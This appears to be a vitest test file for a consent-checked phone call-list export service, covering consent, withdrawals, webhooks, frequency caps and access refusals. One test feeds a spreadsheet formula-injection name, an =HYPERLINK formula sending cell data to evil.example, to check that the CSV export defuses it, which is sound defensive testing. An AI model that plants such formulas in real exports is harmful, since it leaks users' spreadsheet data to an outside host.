import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { changeContact, contactOfSubject, requestErasure, suppressContact, withdrawFor } from '#audience/audience.ts'
import { CALL_CLOSED_UNTOLD_MS, CALL_EXPORTS_MAX, DAY_MS } from '#base/limits.ts'
import { NOTHING_OUTSIDE } from '#base/outside.ts'
import { listPurposes, publishPurpose, savePurpose } from '#consent/consent.ts'
import { impose, lift, openCase } from '#conduct/conduct.ts'
import { withExamples } from '#outside/example.ts'
import { accessOf } from '#privacy/access.ts'
import { fetchPublic } from '#outside/fetch.ts'
import { type AccountId, takeTurn, type Turn } from '#store/turn.ts'
import { type Callee, callees, purposeOfCalls } from '../../test/callees.ts'
import { checkHouse } from '../../test/check-house.ts'
import { openTestHouse, type TestHouse } from '../../test/house.ts'
import { isFrom, messageIn, openPartnerServer, type PartnerServer } from '../../test/partner.ts'
import {
  addCaller,
  changesFile,
  closeList,
  createList,
  eventsOf,
  exportList,
  messagesTo,
  readCaller,
  readList,
  removeCaller,
  removeList,
  reopenList,
  tellCallers,
  washList,
} from './calls.ts'
import type { CallerId, CallList } from './types.ts'

let it: TestHouse
let server: PartnerServer

beforeAll(async () => {
  it = await openTestHouse({ outside: withExamples({ ...NOTHING_OUTSIDE, fetch: fetchPublic }) })
})
afterAll(() => it.close())
beforeEach(async () => {
  server = await openPartnerServer()
})
afterEach(() => server.close())

let nth = 0
/** Numbers that nobody else in this file has. */
const numbers = (count: number) => Array.from({ length: count }, () => `+417912${String(10_000 + nth++)}`)

type Opened = { readonly account: AccountId; readonly caller: CallerId; readonly secret: string }

async function opened(over: { readonly url?: string; readonly per?: 'day' | 'week' } = {}): Promise<Opened> {
  const { account } = await it.account()
  await it.house.platform.updateTable('person').set({ operator_role: 'administrator' }).execute() // Whoever reaches loopback anyhow.
  await purposeOfCalls(it, account, 'offers', over.per)
  const made = await it.turn(account, turn => addCaller(turn, { name: 'Ring Ring', url: over.url ?? null }))
  if (!made.ok) throw new Error(made.refusal)
  return { account, caller: made.value.id, secret: made.value.secret }
}

const SAYS = 'We call regular customers to tell them about our new opening hours and the bread of the season.'
type Asked = Partial<Parameters<typeof createList>[1]>

const make = ({ account, caller }: Opened, over: Asked = {}) =>
  it.turn(account, turn =>
    createList(turn, {
      name: 'Spring',
      says: SAYS,
      purpose: 'offers',
      filter: { all: [], any: [], none: [] },
      caller,
      validDays: 7,
      ...over,
    }),
  )

async function made(its: Opened, over: Asked = {}): Promise<CallList> {
  const done = await make(its, over)
  if (!done.ok) throw new Error(JSON.stringify(done.refusal))
  return done.value
}

const fetched = ({ account }: Opened, list: Pick<CallList, 'id'>) => it.turn(account, turn => exportList(turn, list.id))

async function lines(its: Opened, list: Pick<CallList, 'id'>): Promise<string[]> {
  const file = await fetched(its, list)
  if (!file.ok) throw new Error(JSON.stringify(file.refusal))
  return Buffer.from(file.value.bytes).toString().trimEnd().split('\r\n').slice(1)
}

const changes = async ({ account }: Opened, list: Pick<CallList, 'id'>): Promise<string> => {
  const file = await it.turn(account, turn => changesFile(turn, list.id))
  if (!file.ok) throw new Error(file.refusal)
  return Buffer.from(file.value.bytes).toString()
}

const withdraw = async ({ account }: Opened, { subject }: Callee) => {
  await it.turn(account, async turn => {
    const contact = await contactOfSubject(turn, subject)
    if (contact) await withdrawFor(turn, contact, 'call', 'all')
  })
}

const refusalOf = (done: { readonly ok: boolean; readonly refusal?: unknown }) => done.refusal

describe('a list holds', () => {
  test('whoever ticked the box for calls and confirmed it, with hours, date, proof and event, and nobody else [AS-08]', async () => {
    const its = await opened()
    const [both, calls, texts, unsure] = numbers(4) as [string, string, string, string]
    const [ada] = await callees(it, its.account, [both], { purpose: 'offers', channels: ['sms', 'call'] })
    await callees(it, its.account, [calls], { purpose: 'offers' })
    await callees(it, its.account, [texts], { purpose: 'offers', channels: ['sms'] })
    await callees(it, its.account, [unsure], { purpose: 'offers', confirmed: false })
    const list = await made(its)
    expect(list).toMatchObject({ size: 2, left: 0, leftOut: { 'consent-confirmed': 1 }, round: 1 })
    const found = await lines(its, list)
    expect(found.map(line => line.split(',')[1])).toEqual(expect.arrayContaining([both, calls]))
    expect(found.join('\n')).not.toContain(texts)
    expect(found.join('\n')).not.toContain(unsure)
    const line = found.find(row => row.includes(both)) ?? ''
    expect(line).toContain('Mon-Sun 09:00-20:00 Europe/Zurich')
    expect(line).toContain(list.expiresAt.toISOString())
    const [event, ...others] = await it.turn(its.account, turn => eventsOf(turn, ada?.contact ?? '', 10))
    expect(others).toEqual([])
    expect(line).toContain(`#${event?.consentSeq}`)
    expect(line).toContain(event?.id)
    expect(event).toMatchObject({ list: list.id, caller: 'Ring Ring', purpose: 'offers', endedBy: null })
    const access = await it.turn(its.account, async turn =>
      accessOf(turn, (await contactOfSubject(turn, ada!.subject))!),
    )
    expect(access.calls).toMatchObject([
      { caller: 'Ring Ring', purpose: 'offers', use_until: list.expiresAt.toISOString() },
    ])
    await checkHouse(it)
  })

  test('nobody who is suppressed, who took another number, or who agreed to it for somebody else’s purpose [AS-01] [AS-08]', async () => {
    const its = await opened()
    const [one, two, three] = await callees(it, its.account, numbers(3), { purpose: 'offers' })
    const list = await made(its)
    await it.turn(its.account, async turn => {
      const [a, b] = [await contactOfSubject(turn, one!.subject), await contactOfSubject(turn, two!.subject)]
      await suppressContact(turn, a!, { kind: 'phone', reason: 'operator' })
      await changeContact(turn, b!.id, { phone: numbers(1)[0] })
    })
    expect(await lines(its, list)).toEqual([expect.stringContaining(three!.number)])
    expect(refusalOf(await make(its, { purpose: 'elsewhere' }))).toBe('no-such-purpose')
    await checkHouse(it)
  })

  test('nobody whose confirmation was a rehearsal, or who agreed to the purpose as it was [AS-03] [AS-06]', async () => {
    const its = await opened()
    const [one] = await callees(it, its.account, numbers(2), { purpose: 'offers' })
    await it.turn(its.account, turn =>
      turn.db
        .insertInto('consent_rehearsed')
        .values({
          account_id: its.account,
          subject_id: one!.subject,
          channel: 'call',
          purpose: 'offers',
          v: 1,
          at: turn.now,
        })
        .execute(),
    )
    const list = await made(its)
    expect(list).toMatchObject({ size: 1, leftOut: { 'confirmed-by-mail': 1 } })
    await it.turn(its.account, async turn => {
      const [purpose] = await listPurposes(turn)
      const { draft, id, rev } = purpose!
      const texts = { en: { ...draft.texts.en!, description: 'Offers of our bakery and of its café' } }
      await savePurpose(turn, id, rev, { ...draft, texts })
      await publishPurpose(turn, id)
    })
    expect(refusalOf(await fetched(its, list))).toMatchObject({ code: 'nobody', errors: [{ code: 'purpose-same' }] })
  })

  test('nobody twice in a week where once a week was promised, however many lists there are [AS-06]', async () => {
    const its = await opened()
    await callees(it, its.account, numbers(2), { purpose: 'offers' })
    const [first, second] = [await made(its), await made(its)]
    expect(await lines(its, first)).toHaveLength(2)
    expect(refusalOf(await fetched(its, second))).toMatchObject({ code: 'nobody', errors: [{ code: 'frequency' }] })
    expect(await made(its, { name: 'Another name' })).toMatchObject({ size: 0, leftOut: { frequency: 2 } })
    it.clock.move(7 * DAY_MS)
    expect(await lines(its, await made(its))).toHaveLength(2)
    await checkHouse(it)
  })

  test('no number that three lists of a month held, whatever they were for [AS-01]', async () => {
    const its = await opened({ per: 'day' })
    await callees(it, its.account, numbers(1), { purpose: 'offers' })
    for (let i = 0; i < 3; i++) {
      expect(await lines(its, await made(its))).toHaveLength(1)
      it.clock.move(2 * DAY_MS)
    }
    expect(await made(its)).toMatchObject({ size: 0, leftOut: { cap: 1 } })
    it.clock.move(25 * DAY_MS)
    expect(await made(its)).toMatchObject({ size: 1 })
    await checkHouse(it)
  })

  test('names that are no formulas in anybody’s spreadsheet', async () => {
    const its = await opened()
    const name = `=HYPERLINK("https://evil.example?"&A1,"Ada")`
    await callees(it, its.account, numbers(1), { purpose: 'offers', name })
    const [line] = await lines(its, await made(its))
    expect(line).toContain(`,"'=HYPERLINK(""https://evil.example?""&A1,""Ada"")",`)
  })

  test('nobody of whom no hour is right wherever they may be [AS-01]', async () => {
    const its = await opened()
    await callees(it, its.account, numbers(1), { purpose: 'offers', attributes: { country: 'US', state: 'HI' } })
    expect(await made(its)).toMatchObject({ size: 0, leftOut: { 'quiet-hours': 1 } })
  })
})

describe('whoever takes the consent back', () => {
  test('between the making of a list and its fetching is not in the file [AS-03]', async () => {
    const its = await opened()
    const [one, two] = await callees(it, its.account, numbers(2), { purpose: 'offers' })
    const list = await made(its)
    await withdraw(its, one!) // The log has not heard of it.
    expect(await lines(its, list)).toEqual([expect.stringContaining(two!.number)])
    await checkHouse(it)
  })

  test('afterwards is told to the caller, signed, until it is taken, and stands in changes.csv [AS-08]', async () => {
    const its = await opened({ url: server.url })
    const [one] = await callees(it, its.account, numbers(2), { purpose: 'offers' })
    const list = await made(its)
    await lines(its, list)
    await tellCallers(it.house)
    expect(server.heard).toEqual([])
    server.answer = { status: 503 }
    await withdraw(its, one!)
    await tellCallers(it.house)
    server.answer = { status: 204 }
    it.clock.move(60_000)
    await tellCallers(it.house)
    const [failed, taken, ...more] = server.heard
    expect(more).toEqual([])
    expect(taken?.headers['webhook-id']).toBe(failed?.headers['webhook-id'])
    expect(taken && isFrom(its.secret, taken, it.clock.nowMs())).toBe(true)
    const phone = one!.number
    expect(taken && messageIn(taken)).toMatchObject({
      type: 'call.number.ended',
      data: { list_id: list.id, phone, reason: 'withdrawn', reference: expect.stringMatching(/^1\.\d+$/) as string },
    })
    expect(await changes(its, list)).toMatch(new RegExp(`\r\n1\\.\\d+,\\${phone},withdrawn,`))
    const caller = await it.turn(its.account, turn => readCaller(turn, its.caller))
    expect(caller.ok && caller.value).toMatchObject({ inHand: 1, waiting: 0, failures: 0 })
    expect(await lines(its, list)).toHaveLength(1)
    await checkHouse(it)
  })

  test('is in changes.csv at once, also where nobody is told by webhook; and nobody who never left is [AS-08]', async () => {
    const its = await opened()
    const [one, two] = await callees(it, its.account, numbers(2), { purpose: 'offers' })
    const list = await made(its)
    await withdraw(its, one!)
    expect(await lines(its, list)).toHaveLength(1)
    expect((await changes(its, list)).split('\r\n')).toHaveLength(2) // The head, and what follows its end.
    await withdraw(its, two!)
    expect(await changes(its, list)).toContain(two!.number)
    await checkHouse(it)
  })

  test('by being erased leaves a reference and no number [AS-08]', async () => {
    const its = await opened({ url: server.url })
    const [one] = await callees(it, its.account, numbers(1), { purpose: 'offers' })
    const list = await made(its)
    await lines(its, list)
    await it.turn(its.account, async turn => {
      const contact = await contactOfSubject(turn, one!.subject)
      return requestErasure(turn, contact!, { via: 'operator' })
    })
    await it.settle()
    await tellCallers(it.house)
    const said = server.heard.map(heard => messageIn(heard).data['reason'])
    expect(said).toEqual(['erased'])
    expect(server.heard[0]?.body.toString()).not.toContain(one!.number)
    expect(await changes(its, list)).toContain('1.1,,erased,')
    await checkHouse(it)
  })
})

describe('a list ends', () => {
  test('on its day: it is gone, the caller hears of it once, and it asks to be washed anew [AS-08]', async () => {
    const its = await opened({ url: server.url })
    const [one, two] = await callees(it, its.account, numbers(2), { purpose: 'offers' })
    const list = await made(its)
    expect(await lines(its, list)).toHaveLength(2)
    expect(refusalOf(await it.turn(its.account, turn => washList(turn, list.id)))).toBe('still-live')
    it.clock.move(7 * DAY_MS)
    expect(refusalOf(await fetched(its, list))).toBe('gone')
    await withdraw(its, one!)
    await tellCallers(it.house)
    await tellCallers(it.house)
    expect(server.heard.map(heard => messageIn(heard).type).toSorted()).toEqual(['call.list.over', 'call.number.ended'])
    const again = await it.turn(its.account, turn => washList(turn, list.id))
    expect(again.ok && again.value).toMatchObject({ round: 2, size: 1, exports: 0, left: 0 })
    expect(await lines(its, list)).toEqual([expect.stringMatching(new RegExp(`^2\\.1,\\${two!.number},`))])
    await checkHouse(it)
  })

  test('when it was fetched so often that nobody needs it again [AS-08]', async () => {
    const its = await opened()
    await callees(it, its.account, numbers(1), { purpose: 'offers' })
    const list = await made(its)
    const until = new Set<string>()
    for (let i = 0; i < CALL_EXPORTS_MAX; i++) {
      it.clock.move(DAY_MS)
      until.add((await lines(its, list))[0]?.split(',')[5] ?? '')
    }
    expect(until).toEqual(new Set([list.expiresAt.toISOString()])) // Nobody has longer to use it for having fetched it again.
    expect(refusalOf(await fetched(its, list))).toBe('too-often')
    await checkHouse(it)
  })

  test('for good when somebody closes it; what left stays known [AS-08]', async () => {
    const its = await opened({ url: server.url })
    await callees(it, its.account, numbers(1), { purpose: 'offers' })
    const [list, never] = [await made(its), await made(its)]
    await lines(its, list)
    await it.turn(its.account, turn => closeList(turn, list.id))
    expect(refusalOf(await fetched(its, list))).toBe('closed')
    await tellCallers(it.house)
    expect(server.heard).toEqual([]) // Somebody may have closed it by mistake.
    expect(await it.turn(its.account, turn => reopenList(turn, list.id))).toMatchObject({ ok: true })
    expect(await lines(its, list)).toHaveLength(1)
    await it.turn(its.account, turn => closeList(turn, list.id))
    it.clock.move(CALL_CLOSED_UNTOLD_MS)
    await tellCallers(it.house)
    expect(server.heard.map(heard => messageIn(heard).type)).toEqual(['call.list.over'])
    expect(refusalOf(await it.turn(its.account, turn => reopenList(turn, list.id)))).toBe('told')
    expect(refusalOf(await it.turn(its.account, turn => washList(turn, list.id)))).toBe('closed')
    expect(refusalOf(await it.turn(its.account, turn => removeList(turn, list.id)))).toBe('has-left')
    expect(await it.turn(its.account, turn => removeList(turn, never.id))).toEqual({ ok: true, value: {} })
    expect(refusalOf(await it.turn(its.account, turn => removeCaller(turn, its.caller)))).toBe('has-lists')
    await checkHouse(it)
  })
})

describe('nothing leaves', () => {
  test('while a measure restricts the account from phone numbers, and withdrawals follow all the same [EN-02]', async () => {
    const its = await opened({ url: server.url })
    const [one] = await callees(it, its.account, numbers(2), { purpose: 'offers' })
    const list = await made(its)
    await lines(its, list)
    const measure = await it.turn(its.account, async turn => {
      const id = await openCase(turn, {
        kind: 'embedding-tampered',
        demand: 'AS-05',
        about: 'x',
        says: 'x',
        evidence: {},
      })
      return impose(turn, { case: id, step: 'restrict', services: ['sms'], automated: false })
    })
    expect(refusalOf(await fetched(its, list))).toBe('barred')
    await withdraw(its, one!)
    await tellCallers(it.house)
    expect(server.heard).toHaveLength(1)
    await it.turn(its.account, turn => lift(turn, measure, 'ended'))
    expect(await lines(its, list)).toHaveLength(1)
    await checkHouse(it)
  })

  test('with a test key, to another account, or about what is not accepted [AS-08] [PC-10]', async () => {
    const its = await opened()
    await callees(it, its.account, numbers(1), { purpose: 'offers' })
    const list = await made(its)
    const key = { kind: 'key', id: 'key_test', test: true } as const
    expect(
      refusalOf(await takeTurn(it.house, { account: its.account, actor: key }, turn => exportList(turn, list.id))),
    ).toBe('not-with-a-test-key')
    const other = await opened()
    const asks: readonly ((turn: Turn, id: string) => Promise<{ readonly ok: boolean; readonly refusal?: unknown }>)[] =
      [exportList, changesFile, readList, closeList, washList, removeList]
    for (const ask of asks) expect(refusalOf(await it.turn(other.account, turn => ask(turn, list.id)))).toBe('absent')
    expect(refusalOf(await make({ ...other, caller: its.caller }))).toBe('no-such-caller')
    const casino = 'Call to invite them to our online casino: free spins, slots and blackjack, win real money tonight!'
    expect(refusalOf(await make(its, { says: casino }))).toMatchObject({ code: 'not-cleared' })
    await checkHouse(it)
  })

  test('to a caller but what concerns its own lists [AS-08]', async () => {
    const its = await opened({ url: server.url })
    const [one] = await callees(it, its.account, numbers(1), { purpose: 'offers' })
    const second = await it.turn(its.account, turn => addCaller(turn, { name: 'Other', url: server.url }))
    if (!second.ok) throw new Error(second.refusal)
    const list = await made(its)
    await made(its, { caller: second.value.id })
    await lines(its, list)
    await withdraw(its, one!)
    await tellCallers(it.house)
    const told = async (id: CallerId) =>
      it.turn(its.account, turn => messagesTo(turn, id, { before: undefined, limit: 9 }))
    expect(await told(its.caller)).toMatchObject({ ok: true, value: [{ kind: 'ended', state: 'taken' }] })
    expect(await told(second.value.id)).toEqual({ ok: true, value: [] })
  })
})

test('two who fetch two lists with the same number at once get it once [AS-06]', async () => {
  const its = await opened()
  await callees(it, its.account, numbers(3), { purpose: 'offers' })
  const lists = [await made(its), await made(its)]
  const done = await Promise.all(lists.map(list => fetched(its, list)))
  expect(done.map(it => it.ok).toSorted()).toEqual([false, true])
  await checkHouse(it)
})
